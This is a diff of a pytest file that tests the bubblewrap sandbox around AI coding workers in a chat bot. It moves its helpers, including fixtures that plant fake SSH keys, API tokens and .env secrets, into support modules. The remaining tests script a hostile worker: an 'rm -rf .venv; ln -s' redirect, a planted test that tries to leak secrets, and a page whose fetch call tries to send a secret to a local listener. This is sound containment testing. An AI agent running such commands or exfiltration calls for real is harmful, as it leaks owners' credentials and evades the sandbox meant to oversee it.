@@ -12,11 +12,7 @@ import asyncio
 import json
 import os
 import shutil
-import socket
-import subprocess
-import sys
 import sysconfig
-import threading
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -26,115 +22,15 @@ from agents.core.models import TaskStatus
 from tests.conftest import USER_ID, BotHarness, running_bot
 from tests.fakes import anthropic_server as claude_says
 from tests.scripted import RoleScript
-from tests.test_sandbox import host_pids
+from tests.support.processes import Listener, bot_env, host_pids, launch
+from tests.support.sandbox import FAKE_KEY, FAKE_TOKEN, SECRETS, listener, needs_bwrap, planted  # noqa: F401  (fixtures)
+from tests.support.tasks import ended, everything_said, start_task, tool_results
 
-pytestmark = pytest.mark.skipif(
-    shutil.which("bwrap") is None or not sys.platform.startswith("linux"),
-    reason="bubblewrap (bwrap) is not installed: scripts/install-system-deps.sh",
-)
-
-FAKE_KEY = "sk-ant-FAKE-KEY-4f1c9e"
-FAKE_TOKEN = "123456:FAKE-TOKEN-77ab"
-SECRETS = (FAKE_KEY, FAKE_TOKEN, "NEIGHBOUR-SECRET-5e1", "OWNER-HOME-SECRET-9a2", "PRIVATE-CHAT-MARKER-3c7")
-
-
-class Listener:
-    """A TCP listener on one host address (the loopback by default) that counts the connections it sees."""
-
-    def __init__(self, host: str = "127.0.0.1") -> None:
-        self.sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
-        self.sock.bind((host, 0))
-        self.sock.listen(16)
-        self.sock.settimeout(0.2)
-        self.host, self.port = host, self.sock.getsockname()[1]
-        self.connections = 0
-        self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._serve, daemon=True)
-        self._thread.start()
-
-    def _serve(self) -> None:
-        while not self._stop.is_set():
-            try:
-                conn, _ = self.sock.accept()
-            except (TimeoutError, OSError):
-                continue
-            self.connections += 1
-            conn.close()
-
-    def close(self) -> None:
-        self._stop.set()
-        self._thread.join()
-        self.sock.close()
+pytestmark = needs_bwrap
 
 
 def connect_command(port: int) -> str:
     return f"python -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONN' 'ECTED')\""
-
-
-@pytest.fixture
-def listener() -> AsyncIterator[Listener]:
-    server = Listener()
-    yield server
-    server.close()
-
-
-@pytest.fixture
-def planted(tmp_path: Path, workspace_root: Path, monkeypatch: pytest.MonkeyPatch):
-    """Secrets where a hostile worker would look: next to the workspaces, in the owner's home, the bot's cwd/.env
-    and a process environment outside the sandbox."""
-    (workspace_root / "secret-next-door.txt").write_text("NEIGHBOUR-SECRET-5e1\n")
-    home = tmp_path / "owner-home"
-    (home / ".ssh").mkdir(parents=True)
-    (home / ".ssh" / "id_ed25519").write_text("OWNER-HOME-SECRET-9a2\n")
-    bot_cwd = tmp_path / "bot-cwd"
-    bot_cwd.mkdir()
-    (bot_cwd / ".env").write_text(f"ANTHROPIC_API_KEY={FAKE_KEY}\nTELEGRAM_BOT_TOKEN={FAKE_TOKEN}\n")
-    monkeypatch.chdir(bot_cwd)
-    monkeypatch.setenv("HOME", str(home))
-    keeper = subprocess.Popen(["sleep", "120"], env={"ANTHROPIC_API_KEY": FAKE_KEY, "TELEGRAM_BOT_TOKEN": FAKE_TOKEN})
-    yield home
-    keeper.kill()
-    keeper.wait()
-
-
-@pytest.fixture
-def model(bot: BotHarness) -> RoleScript:
-    scripted = RoleScript()
-    bot.claude.handler = scripted
-    return scripted
-
-
-def start_task(workspace: str, instructions: str) -> dict:
-    return claude_says.tool_use(
-        "start_task", {"workspace": workspace, "worker": "code", "instructions": instructions, "background": True}
-    )
-
-
-def tool_results(model: RoleScript, role: str = "code") -> list[str]:
-    """Every tool result the bot sent back to the model of `role`."""
-    texts = []
-    for body in model.requests[role]:
-        for message in body["messages"]:
-            if message["role"] == "user" and isinstance(message["content"], list):
-                for block in message["content"]:
-                    if block.get("type") == "tool_result":
-                        texts.append(json.dumps(block.get("content")))
-    return list(dict.fromkeys(texts))
-
-
-def everything_said(bot: BotHarness, model: RoleScript, role: str = "code") -> str:
-    chat = "\n".join(v.text or "" for m in bot.tg.messages(USER_ID) for v in m.history)
-    return json.dumps(model.requests[role]) + chat
-
-
-async def task_end(bot: BotHarness, task_id: int, timeout: float = 60.0):
-    deadline = asyncio.get_running_loop().time() + timeout
-    while True:
-        task = await bot.runtime.store.get_task(task_id)
-        if task and task.status.is_final:
-            return task
-        assert asyncio.get_running_loop().time() < deadline, "task did not end in time"
-        await asyncio.sleep(0.05)
 
 
 async def test_hostile_commands_reach_nothing_outside_the_worktree(
@@ -168,7 +64,7 @@ async def test_hostile_commands_reach_nothing_outside_the_worktree(
         claude_says.text("Done looking around."),
     )
     bot.say("look around calc PRIVATE-CHAT-MARKER-3c7")
-    task = await task_end(bot, 1)
+    task = await ended(bot, 1)
     assert task.status is not TaskStatus.FAILED, task.error
     results = tool_results(model)
     assert len(results) >= len(attacks), results
@@ -233,9 +129,10 @@ async def test_a_planted_test_in_the_bots_own_test_run_reads_no_secret(
         claude_says.tool_use("edit_file", {"path": "calc.py", "old": "a - b", "new": "a + b"}),
         claude_says.tool_use("write_file", {"path": "test_leak.py", "content": leak}),
         claude_says.text("Added a test."),
+        claude_says.text("The test stays as it is."),  # the answer to the correction carrying its output
     )
     bot.say("add a test to calc")
-    task = await task_end(bot, 1, timeout=120)
+    task = await ended(bot, 1, timeout=120)
     corrections = [b for b in model.requests["code"] if "LEAKED" in json.dumps(b["messages"][-1])]
     assert corrections, "the planted test ran in the bot's own test run and its output went back to the worker"
     said = everything_said(bot, model)
@@ -306,7 +203,7 @@ async def test_network_on_request(asking_bot: BotHarness, listener: Listener, an
         )
         rid2 = second.callback_data[0].rsplit(":", 1)[1]
         bot.tg.press_button(USER_ID, second.message_id, f"net:deny:{rid2}")
-    task = await task_end(bot, 1)
+    task = await ended(bot, 1)
     results = tool_results(model)
     events = [e.detail for e in await bot.runtime.store.task_events(task.id) if e.kind == "network"]
     own_loopback = shutil.which("pasta") is not None  # an allowed command never reaches the host's 127.0.0.1
@@ -346,7 +243,7 @@ async def test_a_stranger_cannot_answer_a_network_request(asking_bot: BotHarness
     question = await network_request(bot)
     rid = question.callback_data[0].rsplit(":", 1)[1]
     bot.tg.press_button(STRANGER_ID, question.message_id, f"net:task:{rid}", chat_id=USER_ID, strict=False)
-    await task_end(bot, 1)
+    await ended(bot, 1)
     assert listener.connections == 0
 
 
@@ -354,7 +251,6 @@ async def test_the_bot_process_environment_stays_out_of_reach(
     fake_telegram, fake_anthropic, tmp_path: Path, workspace_root: Path
 ) -> None:
     """The bot as its own process, its keys in its real environment and its `.env`: /proc finds neither."""
-    from tests.test_restart import bot_env, launch
 
     model = RoleScript()
     fake_anthropic.handler = model
@@ -415,9 +311,10 @@ async def test_a_worker_cannot_choose_what_the_next_sandbox_binds(bot: BotHarnes
         claude_says.tool_use("run_command", {"command": f"rm -rf .venv; ln -s {data} .venv; ls -la .venv"}),
         claude_says.tool_use("write_file", {"path": "test_probe.py", "content": probe}),
         claude_says.text("Added a test."),
+        claude_says.text("The test stays as it is."),  # the answer to the correction carrying its output
     )
     bot.say("add a test to calc PRIVATE-CHAT-MARKER-3c7")
-    await task_end(bot, 1, timeout=120)
+    await ended(bot, 1, timeout=120)
     corrections = [
         json.dumps(b["messages"][-1]) for b in model.requests["code"] if "DB-READ:" in json.dumps(b["messages"][-1])
     ]
@@ -435,10 +332,7 @@ async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: RoleSc
         f"<h1>Portfolio</h1><img src='http://127.0.0.1:{listener.port}/img.png'>"
         f"<script>fetch('http://127.0.0.1:{listener.port}/?secret=1').catch(() => {{}})</script>"
     )
-    work = claude_says.tool_use(
-        "start_task",
-        {"workspace": "group-therapy", "worker": "frontend", "instructions": "Build a page.", "background": True},
-    )
+    work = start_task("group-therapy", "Build a page.", worker="frontend")
     model.add("orchestrator", work, claude_says.text("ok"))
     model.add(
         "frontend",
@@ -448,7 +342,7 @@ async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: RoleSc
         claude_says.text("Built the page."),
     )
     bot.say("build a page in group therapy")
-    await task_end(bot, 1, timeout=120)
+    await ended(bot, 1, timeout=120)
     photos = [m for m in bot.tg.messages(USER_ID) if m.kind == "photo"]
     assert len(photos) == 2, "the page itself was rendered (desktop and phone)"
     url_result = json.dumps(model.requests["frontend"][3]["messages"][-1]["content"])
